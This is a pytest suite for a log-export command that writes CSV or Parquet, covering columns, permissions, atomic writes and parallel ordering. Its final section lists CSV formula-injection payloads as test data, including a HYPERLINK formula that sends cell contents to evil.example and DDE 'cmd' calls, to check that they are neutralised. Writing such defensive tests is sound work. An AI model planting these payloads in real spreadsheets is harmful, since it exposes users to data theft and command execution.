"""``hilt export``: flat rows with the Sheets column vocabulary, as CSV or Parquet."""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from hilt_core.columns import KNOWN_COLUMNS


def test_csv_to_stdout(run: Any, library_log: Path) -> None:
    res = run("export", library_log, "--to", "csv")
    assert res.code == 0, res.err
    rows = list(csv.DictReader(io.StringIO(res.out)))
    assert len(rows) == 12
    assert list(rows[0]) == list(KNOWN_COLUMNS)
    answer = rows[1]
    assert answer["speaker"] == "agent: openai"
    assert answer["session"] == "Conv.aaaaaaaa"
    assert (answer["tokens_in"], answer["tokens_out"], answer["total_tokens"]) == (
        "100",
        "20",
        "120",
    )
    assert answer["cost_usd"] == "0.00045"
    assert answer["latency_ms"] == "100.0"
    assert answer["model"] == "gpt-4o-2024-08-06"
    assert answer["status_code"] == "200"
    assert answer["reply_to"] == rows[0]["event_id"]
    assert answer["user_id"] == "alice"
    assert rows[0]["tokens_in"] == ""  # absent stays empty
    assert res.err == ""


def test_csv_file_columns_filters(
    run: Any, library_log: Path, legacy_log: Path, tmp_path: Path
) -> None:
    out = tmp_path / "calls.csv"
    res = run(
        "export",
        library_log,
        legacy_log,
        "-o",
        out,
        "--columns",
        "timestamp,model,status_code,cost_usd",
        "--action",
        "completion",
    )
    assert res.code == 0, res.err
    assert f"exported 7 rows to {out}" in res.err
    rows = list(csv.reader(out.open(newline="")))
    assert rows[0] == ["timestamp", "model", "status_code", "cost_usd"]
    assert len(rows) == 8
    assert rows[-1][1:] == ["gpt-4o", "200", "5e-05"]  # the 0.2.8 string cost, as a number


def test_message_limit(run: Any, tmp_path: Path, log_writer: Any, calls: Any) -> None:
    from dataclasses import replace

    path = log_writer(tmp_path / "long.jsonl", [replace(calls[0], answer="word " * 300)])
    full = run("export", path, "--to", "csv", "--columns", "message", "--action", "completion")
    assert len(full.out.splitlines()[1]) == len(("word " * 300).strip())
    cut = run(
        "export",
        path,
        "--to",
        "csv",
        "--columns",
        "message",
        "--message-limit",
        "500",
        "--action",
        "completion",
    )
    assert len(cut.out.splitlines()[1]) == 500


def test_unknown_column(run: Any, library_log: Path) -> None:
    res = run("export", library_log, "--to", "csv", "--columns", "model,modle")
    assert res.code == 2
    assert "Unknown columns: ['modle']" in res.err


def test_parquet(run: Any, library_log: Path, legacy_log: Path, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    pa = pytest.importorskip("pyarrow")
    out = tmp_path / "calls.parquet"
    res = run("export", library_log, legacy_log, "-o", out)  # the format from the suffix
    assert res.code == 0, res.err
    table = pq.read_table(out)
    assert table.num_rows == 20
    assert table.column_names == list(KNOWN_COLUMNS)
    assert table.schema.field("timestamp").type == pa.timestamp("us", tz="UTC")
    assert table.schema.field("tokens_in").type == pa.int64()
    assert table.schema.field("cost_usd").type == pa.float64()
    assert table.schema.field("model").type == pa.string()
    data = table.to_pydict()
    assert data["tokens_in"][1] == 100
    assert data["tokens_in"][0] is None
    assert sum(c for c in data["cost_usd"] if c is not None) == pytest.approx(0.0013635 + 0.000065)
    assert data["timestamp"][0].isoformat() == "2025-03-30T23:59:00+00:00"


def test_parquet_needs_an_output_file(run: Any, library_log: Path) -> None:
    res = run("export", library_log, "--to", "parquet")
    assert res.code == 2
    assert "-o OUT.parquet" in res.err


def test_format(run: Any, library_log: Path, tmp_path: Path) -> None:
    assert run("export", library_log).out.startswith("timestamp,conversation_id,")  # CSV
    res = run("export", library_log, "-o", tmp_path / "calls.xlsx")
    assert res.code == 2
    assert "add --to csv or --to parquet" in res.err


def test_parallel_export_keeps_the_rows_in_order(
    library_log: Path, legacy_log: Path, tmp_path: Path
) -> None:
    from hilt import _export
    from hilt.reading import make_filter

    big = tmp_path / "big.jsonl"
    big.write_bytes(library_log.read_bytes() * 15)
    paths = [big, legacy_log]
    cols = list(KNOWN_COLUMNS)

    def csv_text(workers: int, chunk: int | None, **filters: Any) -> str:
        out = io.StringIO()
        n = _export.export(
            paths,
            fmt="csv",
            output=None,
            stdout=out,
            columns=cols,
            message_limit=None,
            keep=make_filter(**filters),
            workers=workers,
            chunk_bytes=chunk,
        )
        assert n == len(out.getvalue().splitlines()) - 1
        return out.getvalue()

    one = csv_text(1, None)
    assert len(one.splitlines()) == 1 + 12 * 15 + 8
    for size in (333, 4096):
        assert csv_text(2, size) == one
    assert csv_text(2, 500, action="system") == csv_text(1, None, action="system")

    pq = pytest.importorskip("pyarrow.parquet")
    a, b = tmp_path / "a.parquet", tmp_path / "b.parquet"
    runs: list[tuple[Path, int, int | None]] = [(a, 1, None), (b, 2, 777)]
    for target, workers, chunk in runs:
        _export.export(
            paths,
            fmt="parquet",
            output=str(target),
            stdout=io.StringIO(),
            columns=cols,
            message_limit=None,
            keep=make_filter(),
            workers=workers,
            chunk_bytes=chunk,
        )
    assert pq.read_table(a).equals(pq.read_table(b))
    assert pq.read_table(b).num_rows == 12 * 15 + 8
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".hilt-export-")]


# -- the output file -------------------------------------------------------------------------
def _export_with_umask(run: Any, *args: Any) -> Any:
    old = os.umask(0o022)  # the usual umask: new files readable by everyone
    try:
        return run("export", *args)
    finally:
        os.umask(old)


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
@pytest.mark.parametrize("jobs", ["1", "2"])
def test_the_output_is_readable_by_its_owner_only(
    run: Any, library_log: Path, legacy_log: Path, tmp_path: Path, suffix: str, jobs: str
) -> None:
    if suffix == ".parquet":
        pytest.importorskip("pyarrow")
    out = tmp_path / f"calls{suffix}"
    res = _export_with_umask(run, library_log, legacy_log, "-o", out, "-j", jobs)
    assert res.code == 0, res.err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # it holds what users typed
    out.chmod(0o644)  # an older export, readable by all: replaced by a private one
    res = _export_with_umask(run, library_log, "-o", out, "-j", jobs)
    assert res.code == 0, res.err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.skipif(not hasattr(signal, "SIGXFSZ"), reason="needs RLIMIT_FSIZE")
def test_a_failed_export_leaves_the_previous_output_whole(
    library_log: Path, tmp_path: Path
) -> None:
    big = tmp_path / "big.jsonl"
    big.write_bytes(library_log.read_bytes() * 200)  # ~1 MB of CSV
    out = tmp_path / "calls.csv"
    out.write_text("the previous export\n")

    import resource

    def small_files() -> None:  # a full disk, for real: writes past 64 KB fail (EFBIG)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 10, 64 << 10))

    proc = subprocess.run(
        [sys.executable, "-m", "hilt", "export", str(big), "-o", str(out), "-j", "1"],
        check=False,
        preexec_fn=small_files,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 2, proc.stderr
    assert "hilt: error:" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert out.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.skipif(not Path("/dev/stdout").exists(), reason="needs /dev/stdout")
def test_output_to_a_pipe_is_written_directly(library_log: Path) -> None:
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "hilt",
            "export",
            str(library_log),
            "--to",
            "csv",
            "-o",
            "/dev/stdout",
        ],
        check=False,
        capture_output=True,  # stdout is a pipe
        text=True,
        timeout=120,
        env={**os.environ, "HILT_PROGRESS": "0"},
    )
    assert proc.returncode == 0, proc.stderr
    assert len(proc.stdout.splitlines()) == 13


# -- formulas ----------------------------------------------------------------------------
RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def _risky_log(tmp_path: Path, log_writer: Any, calls: Any) -> Path:
    from dataclasses import replace

    risky = [
        replace(calls[0], question=text, answer="fine", model="=gpt-4o", user="@alice")
        for text in RISKY
    ]
    return log_writer(tmp_path / "risky.jsonl", risky)


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    run: Any, tmp_path: Path, log_writer: Any, calls: Any
) -> None:
    """CWE-1236: a cell that begins with = + - @ (or a tab, a carriage return) is run as
    a formula when the CSV is opened in a spreadsheet. It gets a leading apostrophe."""
    log = _risky_log(tmp_path, log_writer, calls)
    res = run("export", log, "--columns", "message,model,user_id,tokens_in,cost_usd")
    assert res.code == 0, res.err
    rows = list(csv.DictReader(io.StringIO(res.out)))
    prompts = [r for r in rows if r["message"] != "fine"]
    assert len(prompts) == len(RISKY)
    for row in prompts:
        assert row["message"][0] == "'", row
        assert row["model"] == "'=gpt-4o" or row["model"] == ""
        assert row["user_id"] == "'@alice"
    assert [r["message"][1:] for r in prompts][:4] == RISKY[:4]
    answers = [r for r in rows if r["message"] == "fine"]
    assert answers[0]["tokens_in"] == "100"  # numbers are numbers, not formulas
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d"), row


def test_raw_cells_writes_them_as_logged(
    run: Any, tmp_path: Path, log_writer: Any, calls: Any
) -> None:
    log = _risky_log(tmp_path, log_writer, calls)
    res = run("export", log, "--columns", "message", "--action", "prompt", "--raw-cells")
    assert res.code == 0, res.err
    assert [r["message"] for r in csv.DictReader(io.StringIO(res.out))][:4] == RISKY[:4]


def test_parallel_csv_parts_are_neutralised_too(
    tmp_path: Path, log_writer: Any, calls: Any
) -> None:
    from hilt import _export
    from hilt.reading import make_filter

    log = _risky_log(tmp_path, log_writer, calls)
    big = tmp_path / "big.jsonl"
    big.write_bytes(log.read_bytes() * 20)
    out = io.StringIO()
    _export.export(
        [big],
        fmt="csv",
        output=None,
        stdout=out,
        columns=["message"],
        message_limit=None,
        keep=make_filter(action="prompt"),
        workers=2,
        chunk_bytes=2000,
    )
    cells = [r["message"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
    assert len(cells) == 20 * len(RISKY)
    assert all(c.startswith("'") for c in cells)
